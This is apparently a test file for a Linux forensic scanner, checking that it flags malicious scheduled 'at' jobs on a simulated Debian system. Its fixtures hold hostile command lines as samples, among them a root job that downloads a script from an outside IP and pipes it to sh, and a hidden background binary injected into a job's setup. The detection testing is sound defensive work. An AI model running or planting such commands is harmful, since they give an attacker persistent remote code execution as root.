import { execFileSync } from 'node:child_process';
import { chmodSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { scanTree } from '../tree.ts';
import { at, blameOf, codesOf, makeDebian } from './packaged.ts';

function job(command: string): { text: string; mode: number } {
  const text = `#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
PATH=/usr/sbin:/usr/bin:/sbin:/bin; export PATH
cd /root || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
\${SHELL:-/bin/sh} << 'marcinDELIMITER6d2c8f3a'

${command}
marcinDELIMITER6d2c8f3a
`;
  return { text, mode: 0o700 };
}

it('blames the job of at that fetches and runs a program, with its line, and not the one that makes a report', async () => {
  const root = makeDebian(
    {},
    {
      '/var/spool/cron/atjobs/a0000101ba5f21': job('curl -s http://203.0.113.20/i.sh | sh'),
      '/var/spool/cron/atjobs/a0000201ba5f21': job('/usr/local/bin/report --monthly'),
      '/var/spool/cron/atjobs/.SEQ': '00002\n',
    },
  );
  const outcome = await scanTree(root, { packageManager: 'apt' });
  const bad = at(outcome, '/var/spool/cron/atjobs/a0000101ba5f21');
  expect(bad).toMatchObject({
    verdict: 'malicious',
    attack: ['T1053.002'],
    places: [{ line: 12 }],
    subject: { kind: 'file', role: 'at-job' },
  });
  expect(codesOf(bad)).toContain('fetch-pipe-shell');
  // Shown, because jobs are rare, and left to the responder.
  expect(blameOf(outcome, '/var/spool/cron/atjobs/a0000201ba5f21')).toBe('unknown');
  expect(blameOf(outcome, '/var/spool/cron/atjobs/.SEQ')).toBe('not mentioned');
});

it('sees a command that was slipped in among the environment of a job', async () => {
  const before = job('/usr/local/bin/report');
  const text = before.text.replace('cd /root', 'LANG=C; export LANG; /dev/shm/.a/run &\ncd /root');
  const outcome = await scanTree(makeDebian({}, { '/var/spool/at/a0000501ba5f21': { ...before, text } }), {
    packageManager: 'apt',
  });
  expect(at(outcome, '/var/spool/at/a0000501ba5f21')).toMatchObject({ verdict: 'malicious' });
  expect(at(outcome, '/var/spool/at/a0000501ba5f21')?.places).toContainEqual(
    expect.objectContaining({ line: 6 }),
  );
});

it('passes over a FIFO, a link in a circle and a job that nothing may read, without hanging', async () => {
  const root = makeDebian({}, { '/var/spool/at/a0000301ba5f21': { link: '/var/spool/at/a0000301ba5f21' } });
  execFileSync('mkfifo', [join(root, 'var/spool/at/a0000401ba5f21')]);
  execFileSync('sh', ['-c', 'printf "#!/bin/sh\\n/tmp/.x/y\\n" > "$(printf "a\\n\\377b")"'], {
    cwd: join(root, 'var/spool/at'),
  });
  chmodSync(join(root, 'var/spool/at'), 0o700);
  const outcome = await scanTree(root, { packageManager: 'apt' });
  expect(outcome.counts['at-jobs']).toBe(2);
  const hostile = outcome.findings.find(({ title }) => title.includes('/var/spool/at/a\n'));
  expect(hostile?.verdict).toBe('malicious');
  expect(codesOf(hostile)).toContain('inert');
});
